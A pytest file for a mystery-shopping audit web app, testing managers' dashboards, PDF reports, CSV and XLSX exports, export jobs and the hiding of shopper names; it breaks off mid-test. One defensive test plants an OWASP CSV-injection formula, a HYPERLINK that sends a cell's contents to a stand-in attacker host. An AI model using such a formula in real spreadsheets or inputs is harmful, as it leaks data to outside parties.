"""Managers' dashboard and the visit report: their regions only, scores from SQL, no shopper names."""
import codecs
import csv
import html
import io
import re
from csv import DictReader
from datetime import date, datetime, timedelta

import pytest
from flask_babel import force_locale
from pypdf import PdfReader

from audit import periods
from audit.db import database
from audit.demo import ACCOUNTS, DEMO_PASSWORD, best_answers
from audit import exports, stats
from audit.config import LANGUAGES
from audit.localtime import today as local_today
from audit.models import Action, Answer, Branch, Brand, Region, Visit, VisitScore, utcnow
from conftest import csrf_from, login


def _manager(app, email="manager.hu@example.com"):
    client = app.test_client()
    assert login(client, email, DEMO_PASSWORD).status_code == 302
    return client


def _csv_rows(response, reader=csv.reader):
    """A CSV export's rows, read as a spreadsheet does: its byte order mark says it is UTF-8."""
    assert response.status_code == 200 and response.data.startswith(codecs.BOM_UTF8)
    return reader(io.StringIO(response.data.decode("utf-8-sig")))


def _xlsx(client, query=""):
    """An XLSX export as a manager makes it: the dashboard's button starts a job (run at once in the
    tests), its page links the file; the workbook read back with openpyxl."""
    import openpyxl

    token = csrf_from(client.get("/dashboard/"))
    started = client.post(f"/reports/export.xlsx{query}", data={"csrf_token": token})
    assert started.status_code == 302 and "/reports/jobs/" in started.headers["Location"]
    page = client.get(started.headers["Location"]).get_data(as_text=True)
    assert "/download" in page, page
    download = client.get(started.headers["Location"] + "/download")
    assert download.status_code == 200 and download.headers["Content-Disposition"].endswith(".xlsx")
    return openpyxl.load_workbook(io.BytesIO(download.data))


SHOPPER_NAMES = [name for _email, name, role, _l, _r in ACCOUNTS if role.value == "shopper"]


def test_dashboard_ranks_the_managers_branches_with_their_mean_scores(app, demo):
    page = _manager(app).get("/dashboard/?period=182").get_data(as_text=True)
    with app.app_context(), database.connection_context():
        bud = Branch.get(Branch.code == "BUD-01")
        scores = [float(v.score) for v in Visit.select().where((Visit.branch == bud) & (Visit.state == "approved"))]
    mean = sum(scores) / len(scores)
    assert f"{mean:.1f}" in page.replace(",", ".")  # Hungarian decimal comma
    assert "BUD-01" in page and "TLN-01" not in page and "SOF-01" not in page
    assert all(name not in page for name in SHOPPER_NAMES)


def test_section_scores_come_with_region_and_brand_averages(app, demo):
    page = _manager(app).get("/dashboard/").get_data(as_text=True)
    with app.app_context(), database.connection_context():
        assert VisitScore.select().where(VisitScore.kind == "section").count() > 0
    assert page.count('class="bar"') >= 8  # the sections of the retail checklist


def test_region_filter_outside_the_managers_scope_shows_their_own_regions(app, demo):
    with app.app_context(), database.connection_context():
        foreign = Branch.get(Branch.code == "TLN-01").region_id
    page = _manager(app).get(f"/dashboard/?region={foreign}").get_data(as_text=True)
    assert "TLN-01" not in page and "BUD-01" in page


def test_manager_adds_an_action_and_marks_it_done(app, demo):
    client = _manager(app)
    with app.app_context(), database.connection_context():
        bud = Branch.get(Branch.code == "BUD-01")
    response = client.get("/dashboard/")
    token, dashboard = csrf_from(response), response.get_data(as_text=True)
    failed_item = re.search(r'<select id="action-item" name="item"><option value="">—</option><option value="([^"]+)"',
                            dashboard).group(1)
    bad = client.post("/dashboard/actions?period=91&brand=0", data={
        "branch": bud.id, "item": failed_item, "what": "", "owner": "Store lead", "due_date": "", "csrf_token": token})
    # The dashboard again, with the same filters, the panel open, each mistake beside its field and
    # what was typed still there.
    text = bad.get_data(as_text=True)
    assert bad.status_code == 200 and '<details class="new-action" open>' in text
    assert text.count('class="error"') == 2 and "Semmi sem lett mentve" in text  # what, and by when (hu)
    assert 'value="Store lead"' in text and f'<option value="{bud.id}" selected>' in text
    assert f'<option value="{failed_item}" selected>' in text and '<option selected value="91">' in text
    with app.app_context(), database.connection_context():
        assert Action.select().count() == 0
    late = client.post("/dashboard/actions?period=91&brand=0", data={
        "branch": bud.id, "item": "greeted", "what": "Greet at the door", "owner": "Store lead",
        "due_date": (date.today() - timedelta(days=2)).isoformat(), "csrf_token": token})
    assert late.status_code == 200 and "Adjon meg egy mai vagy későbbi napot." in late.get_data(as_text=True)
    with app.app_context(), database.connection_context():
        assert Action.select().count() == 0  # overdue the moment it was added: refused
    due = date.today().isoformat()
    added = client.post("/dashboard/actions?period=91&brand=0", data={
        "branch": bud.id, "item": "greeted", "what": "Greet at the door", "owner": "Store lead", "due_date": due,
        "csrf_token": token})
    assert added.headers["Location"] == "/dashboard/?period=91&brand=0#actions"  # back to the same filters
    # Only the filters go back into the address: url_for would take "endpoint" or "_external" as its own.
    odd = client.post("/dashboard/actions?period=30&endpoint=x&_external=1&region=abc", data={
        "branch": bud.id, "what": "Check the till", "owner": "Store lead", "due_date": due, "csrf_token": token})
    assert odd.status_code == 302 and odd.headers["Location"] == "/dashboard/?period=30#actions"
    with app.app_context(), database.connection_context():
        action = Action.get(Action.what == "Greet at the door")
        Action.update(due_date=date.today() - timedelta(days=2)).where(Action.id == action.id).execute()  # time passes
    page = client.get("/dashboard/").get_data(as_text=True)
    assert "Greet at the door" in page and "badge critical" in page  # overdue
    # The question it follows up, in the reader's words (Hungarian here, English in the English PDF).
    with app.app_context(), database.connection_context():
        greeted = next(item for section in Visit.select().join(Branch).where(Branch.code == "BUD-01").first()
                       .checklist_version.content["sections"] for item in section["items"] if item["id"] == "greeted")
    assert html.unescape(page).count(f"Nyomon követi: {greeted['text']['hu']}") == 1
    report = client.get(f"/reports/branches/{bud.id}/visits.pdf?lang=en").data
    report_text = " ".join("".join(p.extract_text() for p in PdfReader(io.BytesIO(report)).pages).split())
    assert "Greet at the door" in report_text and f"Follows up: {greeted['text']['en']}" in report_text
    client.post(f"/dashboard/actions/{action.id}/done", data={"csrf_token": token})
    after = client.get("/dashboard/").get_data(as_text=True)
    # No longer among the open ones; among those done lately, to be opened again if done by mistake.
    assert "Greet at the door" not in after[:after.index('class="done-actions"')]
    assert "Greet at the door" in after[after.index('class="done-actions"'):]


def test_a_manager_cannot_add_an_action_to_another_regions_branch(app, demo):
    client = _manager(app)
    with app.app_context(), database.connection_context():
        foreign = Branch.get(Branch.code == "TLN-01")
    response = client.post("/dashboard/actions", data={"branch": foreign.id, "what": "x", "owner": "y",
                                                       "due_date": date.today().isoformat(),
                                                       "csrf_token": csrf_from(client.get("/dashboard/"))})
    assert response.status_code == 404
    with app.app_context(), database.connection_context():
        assert Action.select().count() == 0


def test_visit_report_has_every_answer_in_the_readers_language_and_no_shopper(app, demo):
    with app.app_context(), database.connection_context():
        visit = (Visit.select().join(Branch).where((Branch.code == "BUD-01") & (Visit.state == "approved"))
                 .order_by(Visit.ended_at.desc()).first())
        waiting = (Visit.select().join(Branch).where((Branch.code == "BUD-01") & (Visit.state == "submitted"))
                   .first())
        content = visit.checklist_version.content
    client = _manager(app)
    text = "".join(p.extract_text() for p in PdfReader(io.BytesIO(
        client.get(f"/reports/visits/{visit.uuid}.pdf?lang=ru").data)).pages)
    first_item = content["sections"][0]["items"][0]["text"]["ru"]
    assert first_item[:30] in text.replace("\n", " ")
    assert all(name not in text for name in SHOPPER_NAMES)
    assert client.get(f"/reports/visits/{waiting.uuid}.pdf").status_code == 404  # not approved yet
    other = _manager(app, "manager.ee@example.com")
    assert other.get(f"/reports/visits/{visit.uuid}.pdf").status_code == 404


def test_branch_report_draws_the_trend_and_section_charts(app, demo):
    with app.app_context(), database.connection_context():
        bud = Branch.get(Branch.code == "BUD-01")
    data = _manager(app).get(f"/reports/branches/{bud.id}/visits.pdf?lang=hu&days=365").data
    reader = PdfReader(io.BytesIO(data))
    text = "".join(page.extract_text() for page in reader.pages)
    assert len(reader.pages) >= 2
    assert "Aurora Electronics" in text

    from audit import stats
    from audit.i18n import format_percent

    with app.test_request_context(), database.connection_context(), force_locale("hu"):
        points = [format_percent(mean) for _month, mean in stats.monthly_trend([bud.id], 12) if mean is not None]
    assert len(points) >= 3
    flat = text.replace("\n", " ")
    assert all(point in flat for point in points)  # every month with visits is a point of the trend


def test_exports_have_a_row_per_visit_and_per_answer_and_never_name_the_shopper(app, demo):
    client = _manager(app)
    visits = list(_csv_rows(client.get("/reports/export.csv?kind=visits&lang=ro")))
    answers = list(_csv_rows(client.get("/reports/export.csv?kind=answers&lang=ro")))
    with app.app_context(), database.connection_context():
        region = Branch.get(Branch.code == "BUD-01").region_id
        expected = Visit.select().join(Branch).where((Branch.region == region) & (Visit.state == "approved")).count()
        answer_count = (Visit.select().join(Branch).where((Branch.region == region) & (Visit.state == "approved"))
                        .count())
    assert visits[0][:4] == ["visit", "brand", "region", "branch_code"] and "shopper" not in visits[0]
    assert len(visits) - 1 == expected
    assert len(answers) - 1 > 30 * answer_count  # about 39 answers a visit
    flat = client.get("/reports/export.csv?kind=answers&lang=ro").get_data(as_text=True)
    assert all(name not in flat for name in SHOPPER_NAMES)
    # Item texts in the checklist's source language (English), whoever downloads it: a program reads it.
    assert "Did a staff member greet you?" in flat and "salut" not in flat.lower()
    book = _xlsx(client, "?lang=en")
    assert book.sheetnames == ["Visits", "Answers"]
    assert book["Visits"].max_row - 1 == expected
    # The visit's day is a date cell in the XLSX (a spreadsheet sorts and groups it by date), and the
    # same day as text in the CSV.
    day_column = visits[0].index("date")
    days = [row[day_column] for row in book["Visits"].iter_rows(min_row=2)]
    assert all(cell.is_date and cell.number_format == "yyyy-mm-dd" for cell in days)
    assert sorted(cell.value.date().isoformat() for cell in days) == sorted(row[day_column] for row in visits[1:])
    assert all(isinstance(row[2].value, datetime) for row in book["Answers"].iter_rows(min_row=2))


def test_a_comment_that_starts_like_a_formula_stays_text_in_both_exports(app, demo):
    """A shopper's comment is typed text: a spreadsheet opening the export must not run it (OWASP CSV
    injection). The CSV prefixes an apostrophe; the XLSX stores a text cell, shown as typed."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    with app.app_context(), database.connection_context():
        region = Branch.get(Branch.code == "BUD-01").region_id
        visit = (Visit.select().join(Branch).where((Branch.region == region) & (Visit.state == "approved"))
                 .order_by(Visit.id).first())
        answer = Answer.select().where(Answer.visit == visit).order_by(Answer.id).first()
        Answer.update(comment=formula).where(Answer.id == answer.id).execute()
    client = _manager(app)
    rows = list(_csv_rows(client.get("/reports/export.csv?kind=answers")))
    mine = [row for row in rows if row[0] == str(visit.uuid) and row[4] == answer.item_id]
    assert [row[-1] for row in mine] == ["'" + formula]
    assert not any(cell.startswith("=") for row in rows for cell in row)
    book = _xlsx(client)
    cells = [row[-1] for row in book.worksheets[1].iter_rows(min_row=2)
             if row[0].value == str(visit.uuid) and row[4].value == answer.item_id]
    assert [(cell.value, cell.data_type) for cell in cells] == [(formula, "s")]  # text, not a formula ("f")
    # The other comments read the same in both; an empty one stays an empty cell (no stray apostrophe).
    xlsx_comments = {row[-1].value for row in book.worksheets[1].iter_rows(min_row=2)}
    csv_comments = {row[-1] for row in rows[1:]}
    assert None in xlsx_comments and "'" not in xlsx_comments
    assert xlsx_comments == {None if text == "" else formula if text == "'" + formula else text for text in csv_comments}


def _checklist_order(version):
    return [item["id"] for section in version.content["sections"] for item in section["items"]]


def test_the_answers_export_gives_each_visits_answers_together_and_in_checklist_order(app, demo):
    """Answers are stored in the order the phone sent them (an earlier release kept it, and a shopper
    answers out of order); the export reads like the checklist. Two visits sent in the same second
    keep their answers apart."""
    with app.app_context(), database.connection_context():
        region = Branch.get(Branch.code == "BUD-01").region_id
        first, second = (Visit.select().join(Branch).where((Branch.region == region) & (Visit.state == "approved"))
                         .order_by(Visit.id).limit(2))
        Visit.update(ended_at=first.ended_at).where(Visit.id == second.id).execute()
        # Stored backwards, as a phone that sent the last question first: new rows, reversed.
        for visit in (first, second):
            rows = list(Answer.select().where(Answer.visit == visit).order_by(Answer.id.desc()).dicts())
            Answer.delete().where(Answer.visit == visit).execute()
            for row in rows:
                Answer.create(**{name: value for name, value in row.items() if name != "id"})
        expected = {str(visit.uuid): [item for item in _checklist_order(visit.checklist_version)
                                      if Answer.get_or_none(visit=visit, item_id=item)] for visit in (first, second)}
    client = _manager(app)
    for kind_of_file in ("csv", "xlsx"):
        if kind_of_file == "csv":
            rows = list(_csv_rows(client.get("/reports/export.csv?kind=answers")))[1:]
        else:
            rows = [[cell or "" for cell in row] for row in _xlsx(client)["Válaszok"].iter_rows(min_row=2, values_only=True)]
        mine = [(row[0], row[4]) for row in rows if row[0] in expected]
        visits_in_turn = [uuid for index, (uuid, _item) in enumerate(mine) if index == 0 or mine[index - 1][0] != uuid]
        assert sorted(visits_in_turn) == sorted(expected), kind_of_file  # each visit's rows together
        assert {uuid: [item for u, item in mine if u == uuid] for uuid in expected} == expected, kind_of_file


def test_a_visit_sent_with_its_answers_out_of_order_keeps_them_in_checklist_order(app, demo):
    from audit.operations import submit_visit

    with app.app_context(), database.connection_context():
        visit = Visit.select().where(Visit.state == "assigned").order_by(Visit.id).first()
        order = _checklist_order(visit.checklist_version)
        answers = dict(reversed(list(best_answers(visit.checklist_version.content).items())))
        assert list(answers) != [item for item in order if item in answers]
        submit_visit(visit, answers, {}, {}, started_at=utcnow() - timedelta(minutes=30), ended_at=utcnow())
        stored = [answer.item_id for answer in Answer.select().where(Answer.visit == visit).order_by(Answer.id)]
    assert stored == [item for item in order if item in answers]


def test_answers_past_a_sheets_row_limit_go_on_in_another_sheet_and_none_are_cut_off(app, demo, monkeypatch):
    """Excel's sheets hold 1,048,576 rows, which two years of a large chain's answers can pass; here the
    limit is lowered to 400 so that the demo's answers need several sheets."""
    from audit import exports

    monkeypatch.setattr(exports, "SHEET_ROWS", 400)
    client = _manager(app)
    answers = list(_csv_rows(client.get("/reports/export.csv?kind=answers")))
    assert len(answers) - 1 > 2 * 399
    book = _xlsx(client)
    parts = -(-(len(answers) - 1) // 399)
    # The manager reads Hungarian: the sheets are named in it, and so are the columns.
    assert book.sheetnames == ["Látogatások", "Válaszok"] + [f"Válaszok {n}" for n in range(2, parts + 1)]
    rows = []
    for name in book.sheetnames[1:]:
        sheet = [[cell if cell is not None else "" for cell in row] for row in book[name].iter_rows(values_only=True)]
        assert sheet[0][:3] == ["Látogatás", "Fiók kódja", "Dátum"] and len(sheet) <= 400
        rows += sheet[1:]
    assert [row[:2] + row[4:5] for row in rows] == [row[:2] + row[4:5] for row in answers[1:]]  # all, in order
    # A period without visits gives the headers alone.
    empty = _xlsx(client, "?days=7")
    assert [len(list(empty[name].iter_rows(values_only=True))) for name in empty.sheetnames] == [1, 1]
    assert [next(empty[name].iter_rows(values_only=True))[0] for name in empty.sheetnames] == ["Látogatás"] * 2


def test_an_agency_auditor_sees_one_brand_at_a_time_until_all_are_chosen(app, demo):
    """An auditor sees every client brand. Their checklists' scores do not compare, and an agency's
    brands together are thousands of branches: the dashboard starts with the first brand; All stays
    a choice, and the exports take the filters shown."""
    import html
    import re

    from audit.models import Brand

    client = app.test_client()
    login(client, "auditor@example.com", DEMO_PASSWORD)
    with app.app_context(), database.connection_context():
        aurora = Brand.get(Brand.name == "Aurora Electronics").id
        baltia = Brand.get(Brand.name == "Baltia Bank").id
        estonia = Branch.get(Branch.code == "TLN-01").region_id
    first = client.get("/dashboard/").get_data(as_text=True)
    assert "BUD-01" in first and "TLN-01" not in first
    assert re.search(rf'<option selected value="{aurora}">Aurora Electronics</option>', first)
    every = client.get("/dashboard/?brand=0").get_data(as_text=True)
    assert "BUD-01" in every and "TLN-01" in every
    other = client.get(f"/dashboard/?brand={baltia}").get_data(as_text=True)
    assert "TLN-01" in other and "BUD-01" not in other
    assert "TLN-01" in client.get(f"/dashboard/?region={estonia}").get_data(as_text=True)  # a region names its brand
    # The exports of the first page cover what it shows: Aurora's branches alone.
    link = html.unescape(re.search(r'href="(/reports/export\.csv\?[^"]*kind=visits[^"]*)"', first).group(1))
    assert f"brand={aurora}" in link
    rows = list(_csv_rows(client.get(link), DictReader))
    assert rows and {row["brand"] for row in rows} == {"Aurora Electronics"}
    xlsx_action = html.unescape(re.search(r'action="(/reports/export\.xlsx\?[^"]*)"', first).group(1))
    job_page = client.get(client.post(xlsx_action, data={"csrf_token": csrf_from(client.get("/dashboard/"))})
                          .headers["Location"]).get_data(as_text=True)
    with app.test_request_context():  # the period as the auditor (English) writes dates: "May 28, 2026"
        from flask_babel import format_date

        period = f"{format_date(periods.parse('182', utcnow()).start.date())} – {format_date(utcnow().date())}"
    assert f'<p class="lead">Aurora Electronics · {period}</p>' in job_page
    every_rows = list(_csv_rows(client.get("/reports/export.csv?kind=visits"), DictReader))
    assert {row["brand"] for row in every_rows} == {"Aurora Electronics", "Baltia Bank"}
    # A manager of two clients' regions: one client at a time too (a bank's branches and a shop
    # chain's in one ranking, under one average), both when All is chosen.
    manager = _manager(app, "manager.ee@example.com")
    first = manager.get("/dashboard/").get_data(as_text=True)
    assert ("TLN-01" in first) != ("SOF-01" in first)
    both = manager.get("/dashboard/?brand=0").get_data(as_text=True)
    assert "TLN-01" in both and "SOF-01" in both


def test_an_auditors_export_names_the_shopper(app, demo):
    client = app.test_client()
    login(client, "auditor@example.com", DEMO_PASSWORD)
    text = client.get("/reports/export.csv?kind=visits").get_data(as_text=True)
    assert text.splitlines()[0].endswith(",shopper")
    assert any(name in text for name in SHOPPER_NAMES)
    visits = list(_xlsx(client, "?lang=en").worksheets[0].iter_rows(values_only=True))
    assert visits[0][-1] == "Shopper" and {row[-1] for row in visits[1:]} <= set(SHOPPER_NAMES)
    manager_visits = list(_xlsx(_manager(app), "?lang=en").worksheets[0].iter_rows(values_only=True))
    assert "Shopper" not in manager_visits[0]
    assert not {cell for row in manager_visits for cell in row} & set(SHOPPER_NAMES)


def test_a_corrected_free_text_answer_leaves_the_shoppers_words_out_of_a_managers_exports(app, demo):
    """A reviewer corrects a free-text answer to take the shopper's name out of it: the manager's CSV
    and XLSX give the corrected text and the reason, never what the shopper first wrote (the visit
    report already hides it); the auditor's export keeps it, as the review does."""
    from audit.models import User
    from audit.review import correct_answer

    with app.app_context(), database.connection_context():
        visit = (Visit.select().join(Branch).where((Branch.code == "BUD-01") & (Visit.state == "approved"))
                 .order_by(Visit.ended_at.desc()).first())
        Answer.update(value="Eszter Varga vagyok, az eladó a nevemen szólított.").where(
            (Answer.visit == visit) & (Answer.item_id == "comments")).execute()
        correct_answer(visit, "comments", "[név törölve] Az eladó felismert.", "Name removed.",
                       User.get(User.role == "auditor"))
    period = "?period=365"
    manager = _manager(app)
    rows = list(_csv_rows(manager.get(f"/reports/export.csv{period}&kind=answers"), DictReader))
    corrected = [row for row in rows if row["visit"] == str(visit.uuid) and row["item"] == "comments"]
    assert [(row["answer"], row["corrected"], row["correction_reason"]) for row in corrected] == [
        ("[név törölve] Az eladó felismert.", "yes", "Name removed.")]
    flat = manager.get(f"/reports/export.csv{period}&kind=answers").get_data(as_text=True)
    assert "Eszter" not in flat
    cells = {cell for row in _xlsx(manager, period + "&lang=en").worksheets[1].iter_rows(values_only=True)
             for cell in row if isinstance(cell, str)}
    assert "[név törölve] Az eladó felismert." in cells and "Name removed." in cells
    assert not any("Eszter" in cell for cell in cells)
    auditor = app.test_client()
    login(auditor, "auditor@example.com", DEMO_PASSWORD)
    assert "Eszter Varga vagyok" in auditor.get(f"/reports/export.csv{period}&kind=answers").get_data(as_text=True)


def test_an_xlsx_export_is_made_in_the_background_and_its_page_shows_the_progress(app, demo, monkeypatch):
    """Two years of a chain's answers take half a minute to write: the button starts a job, whose page
    counts the rows written while the export runs (its rows are read in one transaction on
    PostgreSQL, so the count must come from outside it) and then links the file."""
    import threading

    from audit import exports, tasks
    from audit.models import Job

    seen = []  # (rows written, what another connection reads meanwhile)
    record = tasks._record_progress

    def watched(job_id, done):
        record(job_id, done)

        def read():
            with database.connection_context():
                seen.append((done, Job.get_by_id(job_id).done, Job.get_by_id(job_id).status))

        reader = threading.Thread(target=read)
        reader.start()
        reader.join()

    monkeypatch.setattr(tasks, "_record_progress", watched)
    monkeypatch.setattr(tasks, "PROGRESS_ROWS", 100)
    client = _manager(app)
    client.post("/language", data={"language": "hu", "csrf_token": csrf_from(client.get("/dashboard/")),
                                   "next": "/dashboard/"})
    dashboard = client.get("/dashboard/").get_data(as_text=True)
    assert 'action="/reports/export.xlsx?period=' in dashboard and "Exportálás (XLSX)" in dashboard
    book = _xlsx(client, "?days=182")
    rows = sum(book[name].max_row - 1 for name in book.sheetnames)
    with app.app_context(), database.connection_context():
        job = Job.get()
        region = Branch.get(Branch.code == "BUD-01").region_id
        start = job.created_at - timedelta(days=182)
        expected = exports.count_rows([b.id for b in Branch.select().where(Branch.region == region)], start,
                                      job.created_at)
    assert (job.kind, job.status, job.total) == ("xlsx_export", "done", rows)
    assert rows == expected > 500
    assert seen == [(n, n, "running") for n in range(100, rows + 1, 100)]
    page = client.get(f"/reports/jobs/{job.uuid}").get_data(as_text=True)
    assert f"Az export elkészült: {rows} sor." in page and "Az XLSX letöltése" in page
    # While it runs, its page counts the rows and refreshes itself.
    with app.app_context(), database.connection_context():
        Job.update(status="running", done=500).where(Job.id == job.id).execute()
    page = client.get(f"/reports/jobs/{job.uuid}").get_data(as_text=True)
    assert f"Az export készül: 500 / {rows} sor." in page and 'http-equiv="refresh"' in page
    assert client.get(f"/reports/jobs/{job.uuid}/download").status_code == 404  # not before it is done
    other = _manager(app, "manager.ee@example.com")
    assert other.get(f"/reports/jobs/{job.uuid}").status_code == 404  # only its owner sees the job


def test_a_job_whose_worker_was_stopped_says_it_failed_and_its_half_written_file_goes(app, demo):
    """A deployment or a restart stops the worker in the middle of a job: the job would show its
    progress bar forever. Silent for Job.SILENT_AT_MOST, it is taken for failed."""
    import os

    from audit import tasks
    from audit.models import Job, utcnow

    client = _manager(app)
    token = csrf_from(client.get("/dashboard/"))
    pages = [client.post("/reports/export.xlsx?lang=en", data={"csrf_token": token}).headers["Location"]
             for _ in range(2)]
    folder = os.path.join(app.config["MEDIA_DIR"], "exports")
    with app.app_context(), database.connection_context():
        stopped, alive = Job.select().order_by(Job.id)
        for job, silent in ((stopped, Job.SILENT_AT_MOST + timedelta(minutes=1)), (alive, timedelta(minutes=1))):
            os.remove(os.path.join(folder, job.file_name))
            with open(os.path.join(folder, job.file_name + ".part"), "wb") as part:
                part.write(b"PK half a file")
            Job.update(status="running", done=100, file_name=None, updated_at=utcnow() - silent).where(
                Job.id == job.id).execute()
    stopped_page = client.get(pages[0]).get_data(as_text=True)
    alive_page = client.get(pages[1]).get_data(as_text=True)
    assert "Az exportot nem sikerült elkészíteni. Kérjük, próbálja újra." in stopped_page
    assert 'http-equiv="refresh"' not in stopped_page
    assert "Az export készül: 100 /" in alive_page and 'http-equiv="refresh"' in alive_page
    with app.app_context(), database.connection_context():
        assert tasks.remove_expired_job_files() == 1
        assert [job.status for job in Job.select().order_by(Job.id)] == ["failed", "running"]
    assert os.listdir(folder) == [f"{alive.uuid}.xlsx.part"]


def test_an_export_asked_for_wrongly_is_refused_with_a_message_and_starts_no_job(app, demo):
    from audit.models import Job

    client = _manager(app)  # reads Hungarian
    token = csrf_from(client.get("/dashboard/"))
    without_token = client.post("/reports/export.xlsx")
    assert without_token.status_code == 400
    assert "Az űrlap lejárt, vagy máshonnan küldték el." in without_token.get_data(as_text=True)
    for query in ("?days=5", "?days=9999", "?lang=xx"):  # periods and languages the dashboard never offers
        refused = client.post(f"/reports/export.xlsx{query}", data={"csrf_token": token})
        assert refused.status_code == 404, query
        assert "Ez az oldal nem létezik, vagy Önnek nincs hozzáférése." in refused.get_data(as_text=True)
    assert client.get("/reports/export.xlsx").status_code == 405  # starting a job is a form's POST
    with app.app_context(), database.connection_context():
        assert Job.select().count() == 0


def test_a_jobs_file_is_removed_after_the_days_it_is_kept_and_its_page_says_so(app, demo):
    import os

    from audit import tasks
    from audit.models import Job, utcnow

    client = _manager(app)
    token = csrf_from(client.get("/dashboard/"))
    made = [client.post("/reports/export.xlsx?lang=en", data={"csrf_token": token}).headers["Location"]
            for _ in range(2)]
    keep = app.config["JOB_FILES_KEEP_DAYS"]
    folder = os.path.join(app.config["MEDIA_DIR"], "exports")
    with app.app_context(), database.connection_context():
        old, recent = Job.select().order_by(Job.id)
        Job.update(created_at=utcnow() - timedelta(days=keep, hours=1)).where(Job.id == old.id).execute()
        Job.update(created_at=utcnow() - timedelta(days=keep - 1)).where(Job.id == recent.id).execute()
        assert sorted(os.listdir(folder)) == sorted([old.file_name, recent.file_name])
        assert tasks.remove_expired_job_files() == 1
        assert tasks.remove_expired_job_files() == 0
        assert os.listdir(folder) == [recent.file_name]
        assert [(j.status, j.file_name) for j in Job.select().order_by(Job.id)] == [
            ("expired", None), ("done", recent.file_name)]
    page = client.get(made[0]).get_data(as_text=True)  # the manager reads Hungarian
    assert f"Ezt a fájlt {keep} nappal az elkészülte után töröltük. Készítse el újra az irányítópultról." in page
    assert client.get(made[0] + "/download").status_code == 404
    assert client.get(made[1] + "/download").status_code == 200
    # The worker runs the removal once an hour (huey's periodic tasks).
    from datetime import datetime

    due = {task.name for task in app.extensions["huey"].read_periodic(datetime(2026, 11, 26, 9, 17))}
    assert "remove_expired_job_files" in due
    assert not app.extensions["huey"].read_periodic(datetime(2026, 11, 26, 9, 18))


def test_a_regions_zip_of_reports_is_made_in_the_background_with_progress(app, demo):
    import zipfile

    client = _manager(app)
    with app.app_context(), database.connection_context():
        region = Branch.get(Branch.code == "BUD-01").region_id
        foreign = Branch.get(Branch.code == "TLN-01").region_id
    token = csrf_from(client.get("/dashboard/"))
    assert client.post(f"/reports/regions/{foreign}/reports.zip", data={"csrf_token": token}).status_code == 404
    started = client.post(f"/reports/regions/{region}/reports.zip?lang=en", data={"csrf_token": token})
    assert started.status_code == 302
    job_page = client.get(started.headers["Location"]).get_data(as_text=True)
    from audit.models import Job

    with app.app_context(), database.connection_context():
        job = Job.get()
    assert (job.status, job.done, job.total) == ("done", 5, 5)  # the tests run the queue at once: 4 branches, the region
    assert "/download" in job_page
    download = client.get(started.headers["Location"] + "/download")
    # Named after its brand, region, period and language: two regions' ZIPs of one day keep their own
    # names, and so do one region's of two periods or languages.
    with app.app_context(), database.connection_context():
        region_name = Branch.get(Branch.code == "BUD-01").region.name
        day = local_today()
    named = re.search(r"filename=([^;]+)", download.headers["Content-Disposition"]).group(1)
    assert named.startswith(f"Aurora-Electronics-{region_name}-") and named.endswith(f"-English-{day:%Y%m%d}.zip")
    other = client.post(f"/reports/regions/{region}/reports.zip?lang=hu&days=30", data={"csrf_token": token})
    other_name = client.get(other.headers["Location"] + "/download").headers["Content-Disposition"]
    assert re.search(r"filename=([^;]+)", other_name).group(1) not in (named, named.replace("-English-", "-Magyar-"))
    archive = zipfile.ZipFile(io.BytesIO(download.data))
    # Each report named as it is downloaded alone: with its period (ZIPs of two months unpacked into
    # one folder kept both months' reports).
    with app.app_context(), database.connection_context():
        branch_ids = {code: Branch.get(Branch.code == code).id for code in ("BUD-01", "BUD-02", "DEB-01", "SZE-01")}
    alone = {code: re.search(r'filename="([^"]+)"', client.get(f"/reports/branches/{branch_id}/visits.pdf?lang=en")
                             .headers["Content-Disposition"]).group(1) for code, branch_id in branch_ids.items()}
    assert all(re.fullmatch(rf"{code}-report-\d{{8}}-\d{{8}}-en\.pdf", name) for code, name in alone.items()), alone
    region_alone = re.search(r'filename="([^"]+)"', client.get(f"/reports/regions/{region}.pdf?lang=en")
                             .headers["Content-Disposition"]).group(1)
    assert archive.namelist()[0] == region_alone  # the region report first, named as downloaded alone
    assert sorted(archive.namelist()[1:]) == sorted(alone.values())
    text = PdfReader(io.BytesIO(archive.read(alone["DEB-01"]))).pages[0].extract_text()
    assert "Aurora Debrecen Fórum" in text
    other = _manager(app, "manager.ee@example.com")
    assert other.get(started.headers["Location"]).status_code == 404  # only its owner sees the job


def test_region_report_ranks_branches_with_their_section_scores(app, demo):
    client = _manager(app)
    with app.app_context(), database.connection_context():
        region = Branch.get(Branch.code == "BUD-01").region_id
        foreign = Branch.get(Branch.code == "TLN-01").region_id
    text = "".join(p.extract_text() for p in PdfReader(io.BytesIO(
        client.get(f"/reports/regions/{region}.pdf?lang=en").data)).pages)
    for code in ("BUD-01", "BUD-02", "DEB-01", "SZE-01"):
        assert code in text
    assert "Arrival" in text and "Premises" in text  # section columns
    assert all(name not in text for name in SHOPPER_NAMES)
    assert client.get(f"/reports/regions/{foreign}.pdf").status_code == 404


def test_filters_by_brand_and_checklist_keep_to_the_managers_scope(app, demo):
    from audit.models import Brand, Checklist

    client = app.test_client()
    login(client, "manager.ee@example.com", DEMO_PASSWORD)  # Estonia (bank) and Romania and Bulgaria (retail)
    with app.app_context(), database.connection_context():
        bank = Brand.get(Brand.name == "Baltia Bank").id
        retail_checklist = Checklist.get(Checklist.slug == "retail-store-visit").id
    page = client.get(f"/dashboard/?brand={bank}").get_data(as_text=True)
    assert "TLN-01" in page and "SOF-01" not in page
    page = client.get(f"/dashboard/?checklist={retail_checklist}").get_data(as_text=True)
    # Bank branches are listed but have no retail visits: no score.
    row = page[page.index("TLN-01"):page.index("TLN-01") + 600]
    assert ">0<" in row.replace(" ", "")


def _part_rows(page, title):
    """{row heading: (your branches, region average)} of a dashboard's section or dimension table."""
    import html as html_module

    table = page[page.index(f"<h2>{title}</h2>"):]
    table = table[:table.index("</table>")]
    rows = re.findall(r'<th scope="row">([^<]+)</th>.*?</span></span> ([^<]+)</td>\s*<td data-label="Region average" class="num">([^<]+)</td>',
                      table, re.S)
    return {html_module.unescape(name): (mine, region) for name, mine, region in rows}


def test_sections_and_questions_of_two_checklists_are_not_mixed(app, demo):
    """A manager of a bank's and a retailer's regions: the two checklists share section and question
    ids ("waiting", "premises"), which are not the same thing. Their scores are not added together:
    the parts are one checklist's, named, and a chosen checklist filters the averages too."""
    from audit.models import Checklist

    client = _manager(app, "manager.ee@example.com")
    client.post("/language", data={"language": "en", "csrf_token": csrf_from(client.get("/dashboard/")), "next": "/"})
    page = client.get("/dashboard/?period=182&brand=0").get_data(as_text=True)
